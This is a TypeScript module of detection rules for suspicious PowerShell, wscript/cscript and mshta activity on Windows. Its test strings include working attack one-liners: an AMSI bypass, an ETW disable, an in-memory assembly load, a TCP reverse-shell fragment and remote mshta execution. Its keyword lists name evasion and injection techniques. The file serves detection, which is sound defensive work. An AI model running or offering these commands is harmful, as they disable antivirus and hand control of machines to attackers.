/** What code does once PowerShell or a script host runs it on Windows: hidden windows, calls into the system, lures, spying, persistence of its own. */
import { behaviour } from './behaviour.ts';
import { isWebDav, isWritablePlace } from './places.ts';
import { all, any, arg, holds, inputsOf, onProcess, onText, type Row } from './row.ts';

const HOSTS = ['powershell'];

export const WINDOWS_CODE: readonly Row[] = [
  behaviour('amsi-tamper', ['defence-tamper', 'T1562.001', 'defense-evasion', 'critical', 'high'], {
    reason:
      'The interface by which antivirus reads scripts (AMSI) is reached into, which only serves to switch it off.',
    benign: ['security products test themselves'],
    hits: [
      "powershell \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
    ],
    misses: ['powershell "Get-MpComputerStatus"'],
    look: onText([
      'amsiutils',
      'amsi.dll',
      '__pslockdownpolicy',
      "nonpublic,static')",
      'amsiinitfailed',
      'amsiscanbuffer',
      'amsiscanstring',
      'amsicontext',
      'amsisession',
      'amsiopensession',
      'invisi-shell',
      'invoke-amsibypass',
      'amsibypass',
      'bypass-amsi',
      'amsitrigger',
    ]),
  }),
  behaviour('etw-tamper', ['defence-tamper', 'T1562.006', 'defense-evasion', 'critical', 'high'], {
    reason: 'Event tracing of the process is switched off by reaching into the runtime.',
    benign: [],
    hits: [
      "powershell \"[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance')\"",
      'set COMPlus_ETWEnabled=0',
    ],
    misses: ['logman query -ets'],
    look: onText([
      'etweventwrite',
      'eventing.eventprovider',
      'complus_etwenabled',
      'etwprovider',
      'psetwlogprovider',
      'pseventlogprovider',
    ]),
  }),
  behaviour('ps-assembly-in-memory', ['in-memory', 'T1620', 'defense-evasion', 'high', 'medium'], {
    reason: 'A program is loaded into memory from bytes, not from a file that could be looked at.',
    benign: ['build tools that load their own libraries'],
    hits: [
      'powershell "[Reflection.Assembly]::Load([Convert]::FromBase64String((gc C:\\a.b64))).EntryPoint.Invoke($null,$null)"',
    ],
    misses: ['powershell "[Reflection.Assembly]::LoadWithPartialName(\'System.Windows.Forms\')"'],
    look: onText([
      'assembly]::load(',
      'appdomain]::currentdomain.load(',
      '.assembly]::loadfrom(',
      'assembly]::loadfile(',
      '[system.reflection.assembly]::load(',
    ]),
  }),
  behaviour('native-memory-calls', ['in-memory', 'T1055', 'defense-evasion', 'critical', 'high'], {
    reason: 'The line reaches for system calls that place code into memory and start it: the marks of injection.',
    benign: ['debuggers'],
    hits: [
      'powershell "$x=VirtualAlloc 0 4096 0x3000 0x40; [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$b)"',
    ],
    misses: ['powershell "Add-Type -AssemblyName System.Web"'],
    look: onText([
      'virtualalloc',
      'virtualprotect',
      'createremotethread',
      'getdelegateforfunctionpointer',
      'marshal]::copy(',
      'writeprocessmemory',
      'queueuserapc',
      'ntunmapviewofsection',
      'rtlcreateuserthread',
      'ntmapviewofsection',
      'zwunmapviewofsection',
      'createthread(',
      'unsafenativemethods',
      'minidumpwritedump',
      'heapcreate',
      'uuidfromstring',
      'enumsystemlocales',
    ]),
  }),
  behaviour('ps-native-import', ['in-memory', 'T1106', 'execution', 'medium', 'medium'], {
    reason: 'A script declares functions of system libraries to call them directly.',
    benign: ['scripts that change the look of a window'],
    hits: [
      'powershell "Add-Type -MemberDefinition \'[DllImport(\\"user32.dll\\")] public static extern int F();\' -Name a"',
    ],
    misses: ['powershell "Add-Type -AssemblyName System.Web"'],
    look: onText(['dllimport(', 'definedynamicassembly', 'definepinvokemethod', 'getprocaddress', 'getmodulehandle']),
  }),
  behaviour('ps-socket-shell', ['reverse-shell', 'T1059.001', 'command-and-control', 'critical', 'high'], {
    reason: 'A script opens a connection and exchanges commands over it: a shell for whoever is at the other end.',
    benign: ['port tests open a connection but send no commands'],
    hits: [
      'powershell "$c=New-Object Net.Sockets.TCPClient(\'203.0.113.9\',443);$s=$c.GetStream();$o=(iex $d 2>&1|Out-String)"',
    ],
    misses: ['powershell "(New-Object Net.Sockets.TcpClient).Connect(\'db.corp.example\',1433)"'],
    look: onText(
      ['sockets.tcpclient', 'sockets.tcplistener', 'sockets.udpclient', 'net.sockets.socket'],
      ({ lower }) =>
        lower.includes('getstream') ||
        lower.includes('iex ') ||
        lower.includes('invoke-expression') ||
        lower.includes('start-process') ||
        lower.includes('.receive'),
    ),
  }),
  behaviour('ps-hidden-window', ['ps-flags', 'T1564.003', 'defense-evasion', 'medium', 'medium'], {
    reason: 'PowerShell is started with a hidden window, so that the user sees nothing.',
    benign: ['scheduled tasks of administrators', 'software that runs a script in the background'],
    hits: ['powershell -w hidden -c dir', 'powershell -WindowStyle 1 -File a.ps1'],
    misses: ['powershell -NoProfile -File a.ps1', 'powershell -WindowStyle Normal -File a.ps1'],
    look: onProcess(HOSTS, ({ args }) => {
      const at = args.findIndex(({ lower }) => /^[-/\u2013\u2014]w(?:i(?:n(?:d\w*)?)?)?$/.test(lower));
      const value = args[at + 1];
      return at === -1 || value === undefined || !/^(?:h(?:i\w*)?|1)$/.test(value.lower) ? undefined : value;
    }),
  }),
  behaviour('hidden-start', ['ps-flags', 'T1564.003', 'defense-evasion', 'medium', 'medium'], {
    reason: 'A program is started without a window from inside another command.',
    benign: ['background helpers of installed software'],
    hits: [
      'powershell "Start-Process cmd -ArgumentList \'/c dir\' -WindowStyle Hidden"',
      'conhost --headless powershell dir',
    ],
    misses: ['powershell "Start-Process notepad"', 'conhost 0xffffffff -ForceV1'],
    look: onProcess(
      ['start-process', 'conhost', 'new-scheduledtasksettingsset'],
      any(all(holds('hidden')), arg(/^--headless$/), all(arg(/^-w(?:in\w*)?$/), arg(/^(?:hidden|1)$/))),
    ),
  }),
  behaviour('ps-no-policy', ['ps-flags', 'T1059.001', 'execution', 'info', 'low'], {
    reason: 'PowerShell is told to run scripts whatever the policy says.',
    benign: ['nearly every deployment tool'],
    hits: ['powershell -ep bypass -File a.ps1'],
    misses: ['powershell -File a.ps1'],
    look: onProcess(HOSTS, arg(/^(?:bypass|unrestricted)$/)),
  }),
  behaviour('ps-unusual-start', ['ps-flags', 'T1059.001', 'execution', 'low', 'medium'], {
    reason:
      'PowerShell is started with the short flags that people type in a hurry and tools put together (no profile, no interaction, hidden).',
    benign: ['hand-written scheduled tasks'],
    hits: ['powershell -nop -w hidden -c dir', 'powershell -NoP -sta -NonI -c dir'],
    misses: ['powershell -NoProfile -NonInteractive -Command dir'],
    look: onProcess(HOSTS, ({ args }) => {
      const short = args.filter(({ lower }) =>
        /^[-/](?:nop|noni|w|sta|e|en|enc|ec|ep|exec|windo|win|nopr\w{0,3})$/.test(lower),
      );
      return short.length >= 2 ? short[0] : undefined;
    }),
  }),
  behaviour('ps-old-version', ['defence-tamper', 'T1562.010', 'defense-evasion', 'high', 'medium'], {
    reason: 'An old version of PowerShell is asked for, which logs nothing and lets antivirus read nothing.',
    benign: ['very old management scripts'],
    hits: ['powershell -version 2 -c dir', 'powershell -v 2'],
    misses: ['powershell -Version 5.1 -c dir'],
    look: onProcess(HOSTS, ({ args }) => {
      const at = args.findIndex(({ lower }) => /^[-/]v(?:e(?:rsion|rs?)?)?$/.test(lower));
      return at !== -1 && /^2(?:\.0)?$/.test(args[at + 1]?.lower ?? '') ? args[at + 1] : undefined;
    }),
  }),
  behaviour('ps-name-by-pattern', ['hidden-name', 'T1027', 'defense-evasion', 'high', 'high'], {
    reason: 'A command is looked up by a pattern or spelled from other names, so that its own name does not occur.',
    benign: [],
    hits: [
      'powershell "\'dir\'|&(GCM I*e-E*)"',
      'powershell "& (gal i?x) dir"',
      'powershell ".($PSHome[4]+$PSHome[30]+\'x\') dir"',
    ],
    misses: ['powershell "Get-Command Get-*"'],
    look: onText(
      [
        '(gcm ',
        '(gal ',
        '(get-alias ',
        '(get-command ',
        '$shellid[',
        '$pshome[',
        '$env:comspec[',
        '$verbosepreference',
        '(gci alias',
        '(dir alias',
        'getcmdlet(',
        'invokecommand|',
      ],
      ({ lower }, at) =>
        /^(?:\((?:gcm|gal|get-alias|get-command) ['"]?(?:\w{0,3}[*?][\w*?-]*)|\$(?:shellid|pshome|env:comspec)\[|\$verbosepreference\.|\((?:gci|dir) alias|getcmdlet|invokecommand\|)/.test(
          lower.slice(at, at + 60),
        ),
    ),
  }),
  behaviour('ps-runs-stored', ['stored-code', 'T1059.001', 'execution', 'high', 'medium'], {
    reason: 'PowerShell runs text that it reads from a file, the registry, an event log or a name record.',
    benign: ['scripts that load their own parts'],
    hits: ['powershell "iex (gp HKCU:\\Software\\x).v"', 'powershell "gc C:\\ProgramData\\a.txt | iex"'],
    misses: ['powershell "gc C:\\ProgramData\\a.txt"'],
    look: onProcess(['invoke-expression'], (process, scene) =>
      inputsOf(process, scene).find(({ name }) =>
        /^(?:get-content|get-itemproperty|get-itempropertyvalue|resolve-dnsname|get-clipboard|get-winevent|\.readalltext|\.getvalue|nslookup|more|type|cat)$/.test(
          name,
        ),
      ),
    ),
  }),
  behaviour('ps-runs-value', ['stored-code', 'T1059.001', 'execution', 'low', 'high'], {
    reason: 'PowerShell runs the value of a variable or a text as a command.',
    benign: ['scripts that put a command line together'],
    hits: ['powershell "iex $x"', 'powershell "Invoke-Expression \'dir\'"'],
    misses: ['powershell "Invoke-Command -ScriptBlock { dir }"'],
    look: onProcess(['invoke-expression']),
  }),
  behaviour('ps-script-from-writable', ['user-folder-run', 'T1059.001', 'execution', 'medium', 'medium'], {
    reason: 'A script in a folder that everybody can write to is run by PowerShell.',
    benign: ['deployment tools unpack their scripts there'],
    hits: ['powershell -ep bypass -f C:\\Users\\Public\\x.ps1', 'powershell "C:\\Windows\\Temp\\a.ps1"'],
    misses: ['powershell -File C:\\Scripts\\a.ps1'],
    look: onProcess(['*'], (process) =>
      /\.ps1$/i.test(process.program) &&
      isWritablePlace(process.program) &&
      !/^c:\\packages\\plugins|\\chocolatey\\|\\ccmcache\\|imecache|intune/i.test(process.program)
        ? process
        : undefined,
    ),
  }),
  behaviour('script-host-writable', ['user-folder-run', 'T1059.005', 'execution', 'high', 'medium'], {
    reason:
      'A Windows script lies in a folder that everybody can write to, or in a share, and is run by the script host.',
    benign: ['installers that clean up after themselves'],
    hits: ['wscript.exe C:\\Users\\jd\\AppData\\Local\\Temp\\a.js', 'cscript //nologo \\\\203.0.113.9\\x\\a.vbs'],
    misses: ['cscript.exe C:\\Windows\\System32\\slmgr.vbs /dli', 'cscript //nologo C:\\Scripts\\inventory.vbs'],
    look: onProcess(['wscript', 'cscript'], ({ args }) =>
      args.find(
        ({ role, lower }) =>
          role !== 'flag' &&
          (isWritablePlace(lower) || isWebDav(lower) || /^\\\\|^https?:/.test(lower)) &&
          !/\\(?:sysvol|netlogon)\\/.test(lower),
      ),
    ),
  }),
  behaviour('script-host-engine', ['script-engine', 'T1059.005', 'defense-evasion', 'high', 'high'], {
    reason: 'The script host is told to run a file that does not look like a script.',
    benign: [],
    hits: ['wscript.exe //E:vbscript C:\\x\\invoice.txt', 'cscript /e:jscript a.log'],
    misses: ['cscript //nologo a.vbs'],
    look: onProcess(['wscript', 'cscript'], (process) => {
      const engine = process.args.find(({ lower }) => /^\/{1,2}e:/.test(lower));
      return engine !== undefined &&
        process.args.some(({ role, lower }) => role !== 'flag' && !/\.(?:vbs|vbe|jse?|wsf)$/.test(lower))
        ? engine
        : undefined;
    }),
  }),
  behaviour('script-file-started', ['user-folder-run', 'T1204.002', 'execution', 'medium', 'medium'], {
    reason:
      'A script or screen saver in a folder of the user is started as a program: what happens when somebody opens an attachment.',
    benign: ['scripts of administrators in their own folders'],
    hits: ['"C:\\Users\\jd\\AppData\\Local\\Temp\\x.zip\\invoice.js"', 'C:\\Users\\jd\\Downloads\\scan.scr /S'],
    misses: ['C:\\Scripts\\build.cmd'],
    look: onProcess(['*'], (process) =>
      /\.(?:jse?|vbs|vbe|wsf|hta|scr|pif|lnk|cpl|sct)$/i.test(process.program) && isWritablePlace(process.program)
        ? process
        : undefined,
    ),
  }),
  behaviour('mshta-remote', ['proxy-remote', 'T1218.005', 'defense-evasion', 'critical', 'high'], {
    reason: 'mshta runs a page from the network or a script in its arguments, outside every browser protection.',
    benign: [],
    hits: [
      'mshta http://a.example.net/a.hta',
      'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run(""calc"")")',
      'mshta "javascript:close()"',
    ],
    misses: ['mshta.exe "C:\\Program Files\\HelpDesk\\ticket.hta"'],
    look: onProcess(
      ['mshta'],
      ({ args }) =>
        args.find(({ lower }) =>
          /^["']?(?:https?:|ftp:|file:|javascript:|vbscript:|about:|\\\\|script:)/.test(lower),
        ) ?? args.find(({ lower }) => /getobject\(|activexobject|createobject|wscript\.shell/.test(lower)),
    ),
  }),
  behaviour('mshta-file', ['proxy-local', 'T1218.005', 'defense-evasion', 'medium', 'medium'], {
    reason: 'mshta runs a page from a folder that everybody can write to, or a file that is no page by its name.',
    benign: ['in-house forms'],
    hits: ['mshta C:\\Users\\Public\\a.hta', 'mshta C:\\x\\a.png'],
    misses: ['mshta.exe "C:\\Program Files\\HelpDesk\\ticket.hta"'],
    look: onProcess(['mshta'], ({ args }) =>
      args.find(({ lower }) => isWritablePlace(lower) || /\.(?:png|jpg|txt|mp[34]|dat|log|gif)$/.test(lower)),
    ),
  }),
];
